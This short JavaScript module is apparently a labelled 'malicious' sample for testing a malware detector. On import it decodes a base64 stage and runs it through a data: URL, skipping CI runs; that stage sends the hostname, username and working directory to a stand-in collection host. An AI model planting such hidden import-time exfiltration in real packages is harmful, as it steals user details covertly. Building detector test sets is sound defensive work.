// source: blind set 10 (tiny-uid-esm): an ESM side-effect module runs a base64 stage through
// import('data:text/javascript;base64,…'), with no eval, Function or vm
// expect: malicious
const stage = 'aW1wb3J0IG9zIGZyb20gJ25vZGU6b3MnOwpjb25zdCBpZCA9IFtvcy5ob3N0bmFtZSgpLCBvcy51c2VySW5mbygpLnVzZXJuYW1lLCBwcm9jZXNzLmN3ZCgpXS5qb2luKCd8Jyk7CmZldGNoKCdodHRwczovL2NvbGxlY3QudGlueWlkLmludmFsaWQvdD9pPScgKyBlbmNvZGVVUklDb21wb25lbnQoaWQpKS5jYXRjaCgoKSA9PiB7fSk7Cg==';
if (!process.env.CI) {
  import('data:text/javascript;base64,' + stage).catch(() => {});
}
export const ready = true;
